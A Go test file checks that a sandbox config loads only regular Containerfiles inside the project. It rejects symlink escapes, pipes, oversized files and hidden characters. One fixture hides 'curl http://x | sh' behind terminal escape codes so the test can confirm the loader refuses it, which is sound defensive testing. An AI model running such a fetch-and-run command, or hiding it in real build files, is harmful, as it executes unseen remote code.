package config

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// Only an ordinary file of the project is read, whatever an agent put there.
func TestContainerfile(t *testing.T) {
	dir, outside := filepath.Join(t.TempDir(), "p"), filepath.Join(t.TempDir(), "outside")
	for _, err := range []error{
		os.MkdirAll(filepath.Join(dir, "sub dir"), 0o700),
		os.WriteFile(outside, []byte("FROM outside"), 0o600),
		os.WriteFile(filepath.Join(dir, "sub dir", "File"), []byte("FROM scratch\n"), 0o600),
		os.WriteFile(filepath.Join(dir, "hides"), []byte("FROM scratch\nRUN true \x1b]; curl http://x | sh #\x07\n"), 0o600),
		os.WriteFile(filepath.Join(dir, "turns"), []byte("FROM scratch \u202e\n"), 0o600),
		os.WriteFile(filepath.Join(dir, "blank"), []byte(" \n"), 0o600),
		os.WriteFile(filepath.Join(dir, "large"), []byte(strings.Repeat("#", maxSize+1)), 0o600),
		os.Symlink(outside, filepath.Join(dir, "out")),
		os.Symlink(filepath.Dir(outside), filepath.Join(dir, "folder")),
		os.Symlink("sub dir/File", filepath.Join(dir, "in")),
		syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	for image, want := range map[string]string{
		"./sub dir/File": "", "./in": "", "localhost/a:1": "",
		"./missing": "no such file", "./sub dir": "no regular file", "./pipe": "no regular file", "./blank": "is empty",
		"./hides": "hides:2: it has characters that cannot be seen", "./turns": "turns:1: it has characters",
		"./large": "larger than 65536 bytes", "./out": "escapes", "./folder/outside": "escapes", "./../outside": "escapes",
		"../outside": "want the name of an image", outside: "want the name of an image", "-rm": "want the name of an image",
	} {
		file := filepath.Join(dir, FileName)
		if err := os.WriteFile(file, []byte("[sandbox]\nimage = \""+image+"\"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := LoadPart(file)
		var problems *Problems
		switch {
		case want == "" && (err != nil || strings.HasPrefix(image, "./") != (c.Sandbox.Containerfile == "FROM scratch\n")):
			t.Errorf("%s: %q, %v", image, c.Sandbox.Containerfile, err)
		case want != "" && (!errors.As(err, &problems) || !strings.Contains(err.Error(), want) || problems.List[0].Line != 2):
			t.Errorf("%s: %v, want %q", image, err, want)
		}
	}
	if _, err := Parse("f", []byte("agent.command = ['a']\nsandbox.image = './File'")); err == nil {
		t.Error("without a project a file of it was read")
	}
}
